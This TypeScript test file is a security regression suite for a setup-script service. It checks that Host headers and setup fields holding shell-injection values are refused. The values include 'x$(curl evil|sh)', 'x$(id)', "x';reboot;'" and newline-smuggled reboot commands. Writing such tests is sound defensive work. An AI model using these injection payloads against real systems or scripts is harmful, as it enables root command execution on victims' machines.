/**
 * Security regression: script injection through Host. The /setup/* scripts run as root on the node
 * that fetched them and carry the address the node used, taken from its Host header. A Host of
 * `x$(curl evil|sh)` or `x';reboot;'` must never reach a script: the whole app (buildApp on loopback)
 * answers 400 for anything but a plain name or address, and the generator refuses such input again.
 */
import { once } from 'node:events';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseSetupAddress } from '../../../src/setup/setup-address.js';
import { setupScript } from '../../../src/setup/setup-scripts.js';
import { startLayover, type RunningLayover } from '../../helpers/start-layover.js';

const HOSTILE = [
  'x$(id)',
  'x`id`',
  "x';reboot;'",
  'x"; reboot; "',
  'x;reboot',
  'x|sh',
  'x&&reboot',
  'x reboot',
  'x\treboot',
  '$HOME',
  'x>y',
  'a_b.test',
  'a..b',
  '-x',
  '..',
  '.',
  'x.test.',
  'x:0',
  'x:99999',
  'x:80:80',
  '[::1]x',
  '[::1',
  '[fe80::1%eth0]',
  '1.2.3',
  'x\u00e9.test',
  '',
];

describe('parseSetupAddress', () => {
  it.each(HOSTILE)('refuses %j', (host) => {
    expect(parseSetupAddress(host)).toBeNull();
  });

  it.each([
    ['layover.lan:3128', { host: 'layover.lan', family: 0, port: 3128 }],
    ['Layover.LAN', { host: 'layover.lan', family: 0, port: null }],
    ['10.0.0.5:3128', { host: '10.0.0.5', family: 4, port: 3128 }],
    ['[FD00::5]:3128', { host: 'fd00::5', family: 6, port: 3128 }],
  ])('accepts %j', (host, expected) => {
    expect(parseSetupAddress(host)).toEqual(expected);
  });
});

describe('setupScript', () => {
  const CA = '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n';
  it.each(["x';reboot;'", 'x$(id):3128', '10.0.0.5:3128\nreboot'])('refuses the proxy address %j', (proxy) => {
    expect(() => setupScript('systemd', { proxy, addresses: ['10.0.0.5'], registries: ['quay.io'], caCertPem: CA })).toThrow(RangeError);
  });
  it('refuses addresses, names and certificates that are not what they claim', () => {
    const good = { proxy: '10.0.0.5:3128', addresses: ['10.0.0.5'], registries: ['quay.io'], caCertPem: CA };
    expect(() => setupScript('hosts', { ...good, addresses: ['10.0.0.5; reboot'] })).toThrow(RangeError);
    expect(() => setupScript('hosts', { ...good, registries: ['quay.io$(id)'] })).toThrow(RangeError);
    expect(() => setupScript('hosts', { ...good, caCertPem: `${CA}LAYOVER_CA\nreboot\n` })).toThrow(RangeError);
    expect(setupScript('hosts', good)).toContain('10.0.0.5 quay.io');
  });
});

describe('GET /setup/* with a hostile Host', () => {
  let layover: RunningLayover;
  beforeAll(async () => {
    layover = await startLayover();
  });
  afterAll(() => layover?.close());

  /** One raw request, so that Host is sent exactly as written. */
  async function get(port: number, host: string, path = '/setup/hosts'): Promise<{ status: number; text: string }> {
    const socket = connect({ port, host: '127.0.0.1' });
    await once(socket, 'connect');
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.end(Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`, 'latin1'));
    await once(socket, 'close');
    const text = Buffer.concat(chunks).toString('latin1');
    return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0), text };
  }

  it.each(HOSTILE.filter((h) => !/[\t]/.test(h)))('answers 400 without a script for Host %j, on the proxy and the HTTP port', async (host) => {
    for (const port of [layover.addresses.proxy!.port, layover.addresses.http!.port]) {
      for (const path of ['/setup/hosts', '/setup/systemd']) {
        const answer = await get(port, host, path);
        expect(answer.status, `${port} ${path}`).toBe(400);
        expect(answer.text).not.toContain('#!/usr/bin/env bash');
      }
    }
  });

  it('still answers a plain Host with the script', async () => {
    const answer = await get(layover.addresses.proxy!.port, `layover.lan:${layover.addresses.proxy!.port}`, '/setup/systemd');
    expect(answer.status).toBe(200);
    expect(answer.text).toContain(`proxy_url='http://layover.lan:${layover.addresses.proxy!.port}'`);
  });
});
